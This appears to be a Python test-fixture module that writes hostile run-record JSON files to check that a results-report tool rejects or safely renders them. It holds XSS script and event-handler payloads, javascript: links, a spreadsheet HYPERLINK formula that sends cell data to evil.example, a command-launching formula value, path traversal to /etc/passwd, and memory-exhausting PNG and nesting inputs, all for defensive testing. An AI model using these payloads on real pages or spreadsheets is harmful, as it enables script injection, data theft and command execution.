"""A folder of hostile result records, written fresh by each test that needs one.

Each record is a valid record with one field (or a few) replaced by what a careless or malicious
writer could put there. Some must be rejected with a reason; the others are accepted and must reach
the pages harmless.
"""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

from lightning_checkerboard.records import SCHEMA_VERSION

#: What an injected script would do if it ran: the browser test looks for either effect.
PAYLOAD = "window.__pwned=1;document.title='pwned'"
SCRIPT = f"<script>{PAYLOAD}</script>"
IMAGE = f'<img src=x onerror="{PAYLOAD}">'
BREAKOUT = f'"><svg onload="{PAYLOAD}">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TRAVERSAL = "../../escaped"


def sample_grid_png() -> bytes:
    """A small sample grid, so that accepted records in these folders get thumbnails written."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 40, 40)).save(buffer, format="PNG")
    return buffer.getvalue()


def valid_payload(run_id: str, **overrides: Any) -> dict[str, Any]:
    """A finished GAN run's record as JSON data, with ``overrides``."""
    payload = {
        "run_id": run_id, "task": "gan", "status": "finished", "dataset": "photos", "image_size": 32,
        "upsampler": "deconv", "upsampler_stages": ["deconv"] * 3, "seed": 0, "max_steps": 100, "steps": 100,
        "protocol": {"eval_samples": 128, "levels": 3}, "metrics": {"checkerboard": 1.0, "fid": None, "swd": 1.0},
        "baseline": {"kind": f"untrained {SCRIPT}", "swd": 2.0},
        "throughput": {"images_per_second": 10.0}, "config": {"batch_size": 32},
        "wandb": {"path": "team/proj/x", "mode": "online", "url": "https://wandb.ai/team/proj/runs/x"},
        "schema_version": SCHEMA_VERSION,
    }
    payload.update(overrides)
    return payload


#: Records that must be rejected: folder name → (payload, a phrase the reason holds).
REJECTED: dict[str, tuple[Any, str]] = {
    "run-id-traversal": (valid_payload(TRAVERSAL), "field run_id must be 1 to 128 letters"),
    "run-id-absolute": (valid_payload("/tmp/escaped"), "field run_id must be"),
    "run-id-markup": (valid_payload(SCRIPT), "field run_id must be"),
    "javascript-link": (valid_payload("js", wandb={"url": f"javascript:{PAYLOAD}"}), "field wandb.url must be an http(s) URL"),
    "data-link": (valid_payload("data", wandb={"url": "data:text/html,<script>1</script>"}), "field wandb.url must be"),
    "unknown-status": (valid_payload("st", status="<b>done</b>"), "field status must be one of running, finished"),
    "newline-in-name": (valid_payload("nl", upsampler="deconv\n| injected | row |"), "field upsampler must be a non-empty printable"),
    "huge-name": (valid_payload("long", dataset="d" * 1000), "field dataset must be a printable one-line str of at most 512"),
    "size-as-string": (valid_payload("str", image_size="32"), "field image_size must be an int from 1 to 65536; got '32'"),
    "seed-as-float": (valid_payload("flt", seed=1.5), "field seed must be an int"),
    "stages-as-string": (valid_payload("stg", upsampler_stages="deconv"), "field upsampler_stages must be a list of names"),
    "metric-as-string": (valid_payload("met", metrics={"checkerboard": "0.0"}), "field metrics.checkerboard must be a number or null"),
    "metric-as-bool": (valid_payload("bool", metrics={"checkerboard": True}), "field metrics.checkerboard must be a number"),
    "absurd-integer": (valid_payload("big", max_steps=10**30), "field max_steps must be an int from 0"),
    "deep-nesting": (valid_payload("deep", config={"a": json.loads("[" * 40 + "]" * 40)}), "nests lists or mappings more than 8 deep"),
    "schema-from-the-future": (valid_payload("future", schema_version=SCHEMA_VERSION + 1), "newer than this version reads"),
    "not-an-object": (["a", "list"], "expected a JSON object"),
}

#: Records that are accepted and must reach every page harmless: folder name → payload.
ACCEPTED: dict[str, dict[str, Any]] = {
    "markup-names": valid_payload(
        "markup", task=SCRIPT, dataset=IMAGE, upsampler=BREAKOUT, upsampler_stages=[SCRIPT],
        config={"batch_size": SCRIPT}, protocol={"eval_samples": 128, "levels": 3, "fid_extractor": IMAGE}),
    "markup-unfinished": valid_payload("failedmarkup", status="failed", message=f"{SCRIPT}\n| a | b |\n{IMAGE}"),
    "traversal-names": valid_payload(
        "traversal", task=TRAVERSAL, dataset=f"folder:{TRAVERSAL}", upsampler=TRAVERSAL,
        upsampler_stages=[TRAVERSAL, "/etc/passwd"], upsampler_options={"padding": TRAVERSAL}),
    "formula-names": valid_payload("formula", upsampler=FORMULA, dataset="@SUM(1+1)*cmd|' /C calc'!A0"),
    "markdown-names": valid_payload("markdown", upsampler="a|b`c", dataset="[click](javascript:alert(1))"),
    "non-finite": valid_payload("nonfinite", metrics={"checkerboard": float("nan"), "fid": float("inf")},
                                throughput={"images_per_second": float("-inf")}),
    "negative-seed": valid_payload("negative", seed=-3, upsampler="nearest_conv"),
    "longest-names": valid_payload("longest", task="t" * 512, dataset="ü" * 512, upsampler="u" * 512),
}


def write_hostile_records(root: Path) -> Path:
    """Write every hostile record into ``root/<name>/result.json`` (with a sample grid) and return ``root``.

    Also writes two files that are not records at all: one of 10 MB and one nested 100 000 deep.
    """
    png = sample_grid_png()
    for name, payload in [*((name, payload) for name, (payload, _) in REJECTED.items()), *ACCEPTED.items()]:
        folder = root / name
        (folder / "samples").mkdir(parents=True)
        (folder / "samples" / "final.png").write_bytes(png)
        (folder / "result.json").write_text(json.dumps(payload))  # NaN and inf as JSON's NaN, Infinity
    (root / "ten-megabytes").mkdir()
    (root / "ten-megabytes" / "result.json").write_text(json.dumps(valid_payload("huge", message="x" * 10_000_000)))
    (root / "nested-deep").mkdir()
    (root / "nested-deep" / "result.json").write_text('{"config": ' + "[" * 100_000 + "]" * 100_000 + "}")
    return root


# --- files that are not what their names say (issue: nothing a user receives hangs or leaks a build) --

#: Bytes planted outside every ``--from`` root: no file a build writes may hold them.
OUTSIDE_MARKER = b"OUTSIDE-THE-RUNS-7c1f9e2a-never-published"
#: The colour of the pictures planted outside: no thumbnail may show it.
OUTSIDE_COLOUR = (13, 37, 211)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG of a few bytes whose header claims ``width`` × ``height`` RGB pixels (its data holds far fewer).

    Opening it costs nothing; decoding it would allocate ``3 × width × height`` bytes.
    """
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64))
            + chunk(b"IEND", b""))


def solid_png(colour: tuple[int, int, int], size: int = 16) -> bytes:
    """A ``size`` × ``size`` PNG of one colour."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (size, size), colour).save(buffer, format="PNG")
    return buffer.getvalue()


def plant_outside(folder: Path) -> Path:
    """A folder outside the runs that links may point at: a valid record (run id ``outsider``), a sample
    grid and a spectra plot of :data:`OUTSIDE_COLOUR`, and a file of :data:`OUTSIDE_MARKER` bytes."""
    (folder / "samples").mkdir(parents=True)
    (folder / "spectra").mkdir()
    (folder / "result.json").write_text(json.dumps(valid_payload("outsider", dataset=OUTSIDE_MARKER.decode())))
    (folder / "samples" / "final.png").write_bytes(solid_png(OUTSIDE_COLOUR))
    (folder / "spectra" / "step-1.png").write_bytes(solid_png(OUTSIDE_COLOUR))
    (folder / "secret.txt").write_bytes(OUTSIDE_MARKER)
    return folder
